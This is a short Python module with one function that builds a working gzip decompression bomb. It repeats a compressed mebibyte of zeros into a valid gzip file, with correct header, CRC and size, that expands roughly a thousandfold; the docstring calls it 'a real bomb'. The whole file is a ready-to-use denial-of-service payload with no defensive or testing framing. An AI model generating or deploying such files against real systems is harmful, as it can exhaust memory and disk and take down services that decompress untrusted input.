"""Zeros under gzip, put together from one compressed mebibyte: a real bomb of a gigabyte in a second."""

import struct
import zlib

MIB = 1 << 20


def bomb(mebibytes: int) -> bytes:
    """A gzip file that unpacks to so many mebibytes of zeros, about 1:1000."""
    zeros = bytes(MIB)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(mebibytes):
        check = zlib.crc32(zeros, check)
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    return head + block * mebibytes + b"\x03\0" + struct.pack("<II", check, mebibytes * MIB & 0xFFFFFFFF)
